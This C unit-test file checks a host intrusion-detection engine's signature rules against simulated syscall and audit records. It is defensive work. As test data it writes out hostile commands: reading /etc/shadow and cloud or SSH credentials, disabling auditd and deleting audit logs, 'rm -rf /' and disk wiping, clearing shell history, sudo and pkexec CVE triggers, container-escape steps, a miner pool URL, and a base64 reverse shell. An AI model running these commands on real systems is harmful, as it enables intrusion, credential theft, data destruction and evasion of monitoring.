/* SPDX-License-Identifier: GPL-2.0-or-later */
/* Every rule of conf/rules: what it finds, and what only looks like it. */
#include "detect/signatures.h"

#include <check.h>
#include <stdio.h>
#include <string.h>

#include "base/compiler.h"
#include "base/strbuf.h"
#include "detect/families.h"
#include "unit/world.h"

#define EXEC(exe, argv) "500<400 execve() = 0 exe=" exe " argv=" argv "\n"
#define RUNC " exe=/usr/sbin/runc path=/usr/sbin/runc inode=7 "
#define ON_ROOT " dev=00:28 inode=99 "
/* A container, and its first process 620. */
#define CONTAINER                                                               \
	"600<1 execve() = 0 exe=/usr/bin/containerd-shim-runc-v2 "              \
	"argv=shim,-namespace,moby,-id,C1,-address,/s\n"                        \
	"610<600 execve() = 0" RUNC "argv=runc,create,--bundle,/b,C1\n"         \
	"610<600 clone(4111) = 615\n"                                           \
	"615<610 execve() = 0" RUNC "argv=runc,init\n"                          \
	"615<610 clone(8011) = 618 exe=/ comm=runc:[0:PARENT]\n"                \
	"618<610 clone(8011) = 620 exe=/ comm=runc:[1:CHILD]\n"                 \
	"620<610 pivot_root() = 0 exe=/ comm=runc:[2:INIT] path=." ON_ROOT "\n" \
	"610<600 exit_group(0) = ? exe=/usr/sbin/runc\n"                        \
	"630<600 execve() = 0" RUNC "argv=runc,start,C1\n"                      \
	"620<600 execve() = 0 exe=/app path=/app" ON_ROOT "\n"
#define INSIDE(exe, argv) \
	"620<600 execve() = 0 exe=" exe " argv=" argv " path=" exe ON_ROOT "\n"
#define OPEN_WRITE(exe, file) \
	"500<400 openat(ffffff9c,0,241,1a4) = 3 exe=" exe " path=" file " type=CREATE\n"
#define OPEN_READ(exe, file) \
	"500<400 openat(ffffff9c,0,0,0) = 3 exe=" exe " path=" file "\n"
#define UNLINK(exe, file) "500<400 unlink() = 0 exe=" exe " path=" file " type=DELETE\n"

/* id: a rule and a blank, for each finding in order. */
static const struct {
	const char *ids, *lines;
} cases[] = {
	{ "steganography_tool ",
	  EXEC("/usr/bin/steghide", "steghide,extract,-sf,a.jpg") },
	{ "steganography_tool ",
	  EXEC("/usr/bin/python3", "python3,/usr/bin/stegcracker") },
	{ "", EXEC("/usr/bin/exiftool", "exiftool,steghide.jpg") },

	{ "cloud_credentials_search ",
	  EXEC("/usr/bin/grep", "grep,-r,aws_secret_access_key,/home") },
	{ "cloud_credentials_search ",
	  EXEC("/usr/bin/find", "find,/,-path,*/.aws/credentials") },
	{ "", EXEC("/usr/bin/cat", "cat,/root/.aws/credentials") },
	{ "", EXEC("/usr/bin/find", "find,/,-name,aws") },

	{ "gpg_key_reconnaissance ", EXEC("/usr/bin/find", "find,/,-name,secring.gpg") },
	{ "", EXEC("/usr/bin/gpg", "gpg,--homedir,/root/.gnupg,-k") },

	{ "private_key_search ", EXEC("/usr/bin/find", "find,/,-name,id_rsa*") },
	{ "private_key_search ", EXEC("/usr/bin/grep", "grep,-rniI,password,/var/www") },
	{ "", EXEC("/usr/bin/grep", "grep,password,/var/www/a.php") },
	{ "", EXEC("/usr/bin/ssh", "ssh,-i,/root/.ssh/id_rsa,host") },

	{ "base64_elf_argument ",
	  EXEC("/usr/bin/echo", "echo,f0VMRgIBAQAAAAAAAAAAAAMAPgAB") },
	{ "base64_elf_argument ",
	  EXEC("/usr/bin/echo", "echo,eH9FTEYCAQEAAAAAAAAAAAADAD4A") },
	{ "", EXEC("/usr/bin/echo", "echo,f0VMRg==") },

	{ "base64_python_argument ",
	  EXEC("/usr/bin/python3", "python3,-c,exec(%22aW1wb3J0IG9zLHN5cwo=%22)") },
	{ "", EXEC("/usr/bin/python3", "python3,-c,import%20os") },

	{ "base64_shell_argument ",
	  EXEC("/usr/bin/bash",
	       "bash,-c,echo%20YmFzaCAtaSA+JiAvZGV2L3RjcC8xLzIgMD4mMQo=") },
	{ "", EXEC("/usr/bin/bash", "bash,-i") },

	{ "audit_disabled ", EXEC("/usr/sbin/auditctl", "auditctl,-e,0") },
	{ "audit_disabled ", EXEC("/usr/sbin/auditctl", "auditctl,-D") },
	{ "audit_disabled ", EXEC("/usr/bin/systemctl", "systemctl,stop,auditd") },
	{ "audit_disabled ", EXEC("/usr/bin/pkill", "pkill,-9,auditd") },
	{ "", EXEC("/usr/sbin/auditctl", "auditctl,-s") },
	{ "", EXEC("/usr/bin/systemctl", "systemctl,status,auditd") },
	{ "", EXEC("/usr/bin/systemctl", "systemctl,stop,nginx") },

	{ "audit_configuration_changed ",
	  OPEN_WRITE("/usr/bin/vim", "/etc/audit/rules.d/a.rules") },
	{ "audit_configuration_changed ",
	  OPEN_WRITE("/usr/bin/dd", "/var/log/audit/audit.log") },
	{ "audit_configuration_changed ",
	  "500<400 truncate() = 0 exe=/usr/bin/truncate path=/var/log/audit/audit.log\n" },
	{ "", OPEN_WRITE("/usr/sbin/auditd", "/var/log/audit/audit.log") },
	{ "", OPEN_READ("/usr/bin/vim", "/etc/audit/rules.d/a.rules") },
	{ "", "500<400 openat(ffffff9c,0,241,1a4) = -13 exe=/usr/bin/vi "
	      "path=/etc/audit/auditd.conf\n" },

	{ "audit_log_removed ", UNLINK("/usr/bin/rm", "/var/log/audit/audit.log.1") },
	{ "", UNLINK("/usr/sbin/auditd", "/var/log/audit/audit.log.4") },

	{ "compiler_in_container ", CONTAINER INSIDE("/usr/bin/gcc", "gcc,a.c") },
	{ "compiler_in_container ", CONTAINER INSIDE("/usr/bin/gcc-12", "gcc-12,a.c") },
	{ "", CONTAINER INSIDE("/usr/bin/ls", "ls") },
	{ "", EXEC("/usr/bin/gcc", "gcc,a.c") },

	{ "root_certificate_installed ",
	  OPEN_WRITE("/usr/bin/cp", "/usr/local/share/ca-certificates/x.crt") },
	{ "", OPEN_WRITE("/usr/bin/dpkg", "/usr/share/ca-certificates/mozilla/x.crt") },

	{ "package_manager_in_container ",
	  CONTAINER INSIDE("/sbin/apk", "apk,add,nmap") },
	{ "package_manager_in_container ",
	  CONTAINER INSIDE("/usr/bin/apt-get", "apt-get,-y,install,nmap") },
	{ "", CONTAINER INSIDE("/usr/bin/dpkg", "dpkg,-l") },
	{ "", EXEC("/usr/bin/apt-get", "apt-get,install,nmap") },

	{ "pam_changed ", OPEN_WRITE("/usr/bin/tee", "/etc/pam.d/sshd") },
	{ "pam_changed ",
	  OPEN_WRITE("/usr/bin/cp", "/usr/lib/x86_64-linux-gnu/security/pam_unix.so") },
	{ "pam_changed ", "500<400 rename() = 0 exe=/usr/bin/mv "
			  "item=/etc/pam.d/,PARENT,5 item=/tmp/x,DELETE,6 "
			  "item=/etc/pam.d/sshd,CREATE,6\n" },
	{ "", OPEN_WRITE("/usr/bin/dpkg", "/etc/pam.d/sshd.dpkg-new") },

	{ "sensitive_file_read ", EXEC("/usr/bin/cat", "cat,/etc/shadow") },
	{ "sensitive_file_read ", EXEC("/usr/bin/cp", "cp,/host/etc/shadow,/tmp") },
	{ "", EXEC("/usr/bin/cat", "cat,/etc/passwd") },
	{ "", EXEC("/usr/bin/ls", "ls,/etc/shadow") },

	{ "sensitive_file_opened ", OPEN_READ("/tmp/x", "/etc/shadow") },
	{ "", OPEN_READ("/usr/sbin/unix_chkpwd", "/etc/shadow") },
	{ "", OPEN_READ("/usr/bin/sudo", "/etc/shadow") },

	{ "authorized_keys_written ",
	  OPEN_WRITE("/usr/bin/bash", "/root/.ssh/authorized_keys") },
	{ "", OPEN_READ("/usr/sbin/sshd", "/root/.ssh/authorized_keys") },

	{ "cron_changed ", OPEN_WRITE("/usr/bin/bash", "/etc/cron.d/x") },
	{ "cron_changed ",
	  OPEN_WRITE("/usr/bin/crontab", "/var/spool/cron/crontabs/root") },
	{ "", OPEN_WRITE("/usr/bin/bash", "/etc/crypttab") },

	{ "ld_so_preload_changed ", OPEN_WRITE("/usr/bin/bash", "/etc/ld.so.preload") },
	{ "", OPEN_READ("/usr/bin/ls", "/etc/ld.so.preload") },

	{ "openssl_engine_loaded ",
	  EXEC("/usr/bin/openssl", "openssl,req,-engine,/tmp/x.so") },
	{ "", EXEC("/usr/bin/openssl", "openssl,req,-engine,rdrand") },
	{ "", EXEC("/usr/bin/openssl",
		   "openssl,req,-engine,/usr/lib/x86_64-linux-gnu/engines-3/afalg.so") },

	{ "remote_copy_tool ", EXEC("/usr/bin/scp", "scp,f,host:") },
	{ "", EXEC("/usr/bin/cp", "cp,f,g") },
	{ "",
	  "300<1 execve() = 0 exe=/usr/sbin/sshd\n300<1 clone(11) = 400 exe=/usr/sbin/sshd\n"
	  "400<300 execve() = 0 exe=/usr/bin/rsync argv=rsync,--server,.\n" },

	{ "destructive_command ", EXEC("/usr/bin/rm", "rm,-rf,/") },
	{ "destructive_command ", EXEC("/usr/bin/rm", "rm,-r,--no-preserve-root,/x") },
	{ "destructive_command ", EXEC("/usr/bin/rm", "rm,-rf,/*") },
	{ "destructive_command ",
	  EXEC("/usr/bin/dd", "dd,if=/dev/zero,of=/dev/sda,bs=1M") },
	{ "destructive_command ", EXEC("/usr/bin/shred", "shred,/dev/nvme0n1") },
	{ "", EXEC("/usr/bin/rm", "rm,-rf,/tmp/build") },
	{ "", EXEC("/usr/bin/rm", "rm,-rf,/tmp/*") },
	{ "", EXEC("/usr/bin/dd", "dd,if=debian.iso,of=/dev/sdb") },

	{ "bulk_data_removal ", EXEC("/usr/bin/rm", "rm,-rf,/home") },
	{ "bulk_data_removal ", EXEC("/usr/bin/rm", "rm,-rf,/var/log/*") },
	{ "bulk_data_removal ", EXEC("/usr/bin/find", "find,/srv,-type,f,-delete") },
	{ "bulk_data_removal ", EXEC("/usr/bin/shred", "shred,-uz,secret") },
	{ "", EXEC("/usr/bin/rm", "rm,-rf,/home/me/build") },
	{ "", EXEC("/usr/bin/find", "find,.,-name,*.o,-delete") },

	{ "stratum_mining ", EXEC("/tmp/x", "x,-o,stratum+tcp://pool.example:3333") },
	{ "stratum_mining ", EXEC("/tmp/xmrig", "xmrig") },
	{ "", EXEC("/usr/bin/stratum", "stratum") },

	{ "sudo_cve_2019_14287 ", EXEC("/usr/bin/sudo", "sudo,-u#-1,id") },
	{ "sudo_cve_2019_14287 ", EXEC("/usr/bin/sudo", "sudo,-u,#4294967295,id") },
	{ "", EXEC("/usr/bin/sudo", "sudo,-u,#1000,id") },

	{ "sudo_cve_2021_3156 ", EXEC("/usr/bin/sudo", "sudoedit,-s,AAAA%5C") },
	{ "sudo_cve_2021_3156 ", EXEC("/tmp/sudoedit", "x,-s,%5C") },
	{ "", EXEC("/usr/bin/sudo", "sudoedit,/etc/hosts") },
	{ "", EXEC("/usr/bin/sudo", "sudo,-s,echo%20%5C") },

	{ "pkexec_cve_2021_4034 ", "500<400 execve() = 0 exe=/usr/bin/pkexec argv=\n" },
	{ "", EXEC("/usr/bin/pkexec", "pkexec,id") },

	{ "cups_cve_2024_47076 ",
	  "400<1 execve() = 0 exe=/usr/bin/foomatic-rip\n400<1 clone(11) = 500 "
	  "exe=/usr/bin/foomatic-rip\n" EXEC("/usr/bin/dash", "sh,-c,id%20>%20/tmp/x") },
	{ "", "400<1 execve() = 0 exe=/usr/bin/foomatic-rip\n400<1 clone(11) = 500 "
	      "exe=/usr/bin/foomatic-rip\n" EXEC("/usr/bin/dash", "sh,-c,gs%20-q") },

	{ "ingress_nginx_cve_2025_1974 ",
	  EXEC("/usr/sbin/nginx", "nginx,-t,-c,/proc/31/fd/9") },
	{ "", EXEC("/usr/sbin/nginx", "nginx,-t,-c,/etc/nginx/nginx.conf") },

	{ "container_escape_tool ",
	  CONTAINER INSIDE("/usr/bin/nsenter", "nsenter,-t,1,-m,-u,bash") },
	{ "container_escape_tool ",
	  CONTAINER INSIDE("/usr/bin/mount", "mount,/dev/sda1,/mnt") },
	{ "container_escape_tool ",
	  CONTAINER INSIDE("/usr/bin/curl",
			   "curl,--unix-socket,/var/run/docker.sock,http://x/") },
	{ "container_escape_tool ",
	  CONTAINER INSIDE("/usr/sbin/chroot", "chroot,/host") },
	{ "", CONTAINER INSIDE("/usr/bin/mount", "mount,-t,tmpfs,none,/t") },
	{ "", EXEC("/usr/bin/nsenter", "nsenter,-t,1,-m") },

	{ "container_escape_file ",
	  CONTAINER "620<600 openat(ffffff9c,0,241,1a4) = 3 exe=/app "
		    "path=/sys/fs/cgroup/rdma/release_agent\n" },
	{ "", OPEN_WRITE("/usr/sbin/sysctl", "/proc/sys/kernel/core_pattern") },

	{ "kubernetes_attack_tool ", EXEC("/tmp/peirates", "peirates") },
	{ "kubernetes_attack_tool ", EXEC("/usr/bin/bash", "bash,deepce.sh") },
	{ "", EXEC("/usr/bin/kubectl", "kubectl,get,pods") },

	{ "local_reconnaissance_tool ", EXEC("/usr/bin/bash", "bash,./linpeas.sh") },
	{ "local_reconnaissance_tool ", EXEC("/tmp/pspy64", "pspy64") },
	{ "", EXEC("/usr/bin/uname", "uname,-a") },

	{ "shell_history_cleared ", EXEC("/usr/bin/rm", "rm,/root/.bash_history") },
	{ "shell_history_cleared ",
	  EXEC("/usr/bin/bash", "bash,-c,unset%20HISTFILE;id") },
	{ "", EXEC("/usr/bin/cat", "cat,/root/.bash_history") },

	{ "shell_history_removed ", UNLINK("/usr/bin/perl", "/root/.bash_history") },
	{ "", UNLINK("/usr/bin/bash", "/root/.bash_history") },

	{ "setuid_bit_set ",
	  "500<400 fchmodat(ffffff9c,0,9ed) = 0 exe=/usr/bin/chmod path=/tmp/x\n" },
	{ "", "500<400 fchmodat(ffffff9c,0,5ed) = 0 exe=/usr/bin/chmod path=/tmp/d\n" },
	{ "",
	  "500<400 fchmodat(ffffff9c,0,9ed) = 0 exe=/usr/bin/dpkg path=/usr/bin/su\n" },

	{ "ptrace_attach ", "500<400 ptrace(10,1f4) = 0 exe=/usr/bin/gdb\n" },
	{ "ptrace_attach ", "500<400 ptrace(4206,1f4) = 0 exe=/tmp/x\n" },
	{ "", "500<400 ptrace(0) = 0 exe=/usr/bin/strace\n" },
	{ "", "500<400 ptrace(10,1f4) = -1 exe=/tmp/x\n" },

	{ "kernel_module_loaded ", "500<400 finit_module(3) = 0 exe=/usr/bin/kmod\n" },
	{ "", "500<400 finit_module(3) = 0 exe=/usr/lib/systemd/systemd-udevd "
	      "auid=4294967295\n" },

	{ "container_exec ", CONTAINER
	  "640<600 execve() = 0" RUNC "argv=runc,exec,--process,/p,--detach,C1\n"
	  "650<600 execve() = 0 exe=/bin/sh path=/bin/sh" ON_ROOT "\n"
	  "650<600 clone(11) = 660 exe=/bin/sh\n"
	  "660<650 execve() = 0 exe=/bin/ls path=/bin/ls" ON_ROOT "\n" },
	{ "", CONTAINER },
};

/* Records without a call. */
static const struct {
	const char *ids, *records;
} native[] = {
	{ "audit_rules_changed ",
	  "type=CONFIG_CHANGE msg=audit(1700000001.000:9): auid=1000 ses=2 "
	  "op=remove_rule key=\"x\" list=4 res=1\n" },
	{ "audit_rules_changed ",
	  "type=CONFIG_CHANGE msg=audit(1700000001.000:9): op=set audit_enabled=0 old=1 "
	  "auid=1000 ses=2 res=1\n" },
	{ "", "type=CONFIG_CHANGE msg=audit(1700000001.000:9): auid=4294967295 "
	      "ses=4294967295 op=remove_rule key=\"x\" list=4 res=1\n" },
	{ "", "type=CONFIG_CHANGE msg=audit(1700000001.000:9): auid=1000 ses=2 "
	      "op=add_rule key=\"x\" list=4 res=1\n" },
	{ "audit_daemon_ended ",
	  "type=DAEMON_END msg=audit(1700000001.000:9): op=terminate auid=1000 uid=0 "
	  "ses=2 pid=77 res=success\n" },
	{ "audit_daemon_ended ",
	  "type=DAEMON_ABORT msg=audit(1700000001.000:9): op=error-halt "
	  "auid=4294967295 pid=77 res=failed\n" },
	{ "", "type=DAEMON_END msg=audit(1700000001.000:9): op=terminate "
	      "auid=4294967295 uid=0 ses=4294967295 pid=1 res=success\n" },
};

static struct world w;
static struct config config;
static struct signatures *signatures;
static struct strbuf told;
static uint64_t repeats;
static void *self;

static void emit(void *ctx UNUSED, struct finding *f)
{
	strbuf_printf(&told, "%s ", f->detector->id);
	ck_assert_ptr_nonnull(f->summary);
	ck_assert_uint_gt(f->nevidence, 0);
	ck_assert(detector_is_signature(f->detector));
	finding_free(&f);
}

static void again(void *ctx UNUSED, const char *uid UNUSED, uint64_t count,
		  stamp_ms last UNUSED)
{
	repeats = count;
}

static const struct finding_out out = { emit, again, NULL };

static void look(void *ctx UNUSED, const struct state *state, const struct activity *act)
{
	detector_signature.activity(self, state, act, &out);
}

static void setup(void)
{
	struct detect_setup setup = { .config = &config };
	struct err err;

	config_init(&config);
	signatures = signatures_new(&config, &err);
	ck_assert_msg(signatures != NULL, "%s", err.msg);
	setup.signatures = signatures;
	strbuf_init(&told);
	world_init(&w);
	self = detector_signature.init(&setup);
	w.look = look;
}

static void teardown(void)
{
	detector_signature.fini(self);
	world_fini(&w);
	strbuf_fini(&told);
	signatures_free(&signatures);
	config_fini(&config);
}

START_TEST(rules_find)
{
	world_run(&w, cases[_i].lines);
	ck_assert_msg(strcmp(strbuf_str(&told), cases[_i].ids) == 0,
		      "%s: \"%s\", not \"%s\"", cases[_i].lines, strbuf_str(&told),
		      cases[_i].ids);
}
END_TEST

START_TEST(native_records_count)
{
	world_records(&w, native[_i].records);
	ck_assert_msg(strcmp(strbuf_str(&told), native[_i].ids) == 0,
		      "%s: \"%s\", not \"%s\"", native[_i].records, strbuf_str(&told),
		      native[_i].ids);
}
END_TEST

static bool is_found(const char *name)
{
	char word[80];

	snprintf(word, sizeof(word), "%s ", name);
	for (size_t i = 0; i < ARRAY_SIZE(cases); i++)
		if (strcmp(cases[i].ids, word) == 0)
			return true;
	for (size_t i = 0; i < ARRAY_SIZE(native); i++)
		if (strcmp(native[i].ids, word) == 0)
			return true;
	return false;
}

START_TEST(every_rule_has_a_case)
{
	for (int source = 0; source < SIGMA_SOURCE_MAX; source++) {
		size_t n;
		const struct signature *all =
			signatures_of(signatures, (enum sigma_source)source, &n);

		for (size_t i = 0; i < n; i++)
			ck_assert_msg(is_found(all[i].rule->name), "no case finds %s",
				      all[i].rule->name);
	}
}
END_TEST

START_TEST(the_same_again_is_a_count)
{
	for (int i = 0; i < 3; i++)
		world_run(&w, EXEC("/usr/bin/cat", "cat,/etc/shadow"));
	world_run(&w, EXEC("/usr/bin/cat", "cat,/etc/gshadow"));
	ck_assert_str_eq(strbuf_str(&told), "sensitive_file_read sensitive_file_read ");
	detector_signature.finish(self, w.state, &out);
	ck_assert_uint_eq(repeats, 3);
}
END_TEST

Suite *suite_signature(void);

Suite *suite_signature(void)
{
	Suite *suite = suite_create("signature");
	TCase *tc = tcase_create("signature");

	tcase_add_checked_fixture(tc, setup, teardown);
	tcase_add_loop_test(tc, rules_find, 0, ARRAY_SIZE(cases));
	tcase_add_loop_test(tc, native_records_count, 0, ARRAY_SIZE(native));
	tcase_add_test(tc, every_rule_has_a_case);
	tcase_add_test(tc, the_same_again_is_a_count);
	suite_add_tcase(suite, tc);
	return suite;
}
